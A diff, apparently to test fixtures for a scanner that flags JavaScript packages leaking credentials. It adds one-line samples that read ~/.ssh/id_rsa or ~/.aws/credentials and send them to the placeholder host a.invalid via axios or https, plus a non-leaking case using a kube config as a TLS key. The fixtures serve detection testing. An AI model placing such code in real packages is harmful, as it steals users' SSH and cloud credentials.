@@ -327,6 +327,13 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       weight: 'weak',
     },
     {
+      when: 'a key is sent under the name of one that stays here, by a library that sends what it is given',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), axios = require('axios'); exports.report = () => axios.post('https://a.invalid/', { key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'they go to a host that is written down, at whatever call',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.upload = file => { const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); https.request({ hostname: 'a.invalid', path: '/' + file, headers: { authorization: key } }).end() }`,
@@ -366,6 +373,13 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
     },
   ],
   silent: [
+    {
+      when: 'a connection proves itself with a key, which it does not send',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const key = fs.readFileSync(os.homedir() + '/.kube/config'), cert = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
+          exports.pods = done => https.request('https://a.invalid/pods', { cert, key, headers: { accept: 'application/json' } }, done).end(); exports.nodes = done => https.get({ hostname: 'a.invalid', key, cert }, done);`,
+      },
+    },
     {
       when: 'a detector of clusters shows its own cluster who it is, by one request with `hostname` and another with `host`',
       files: {
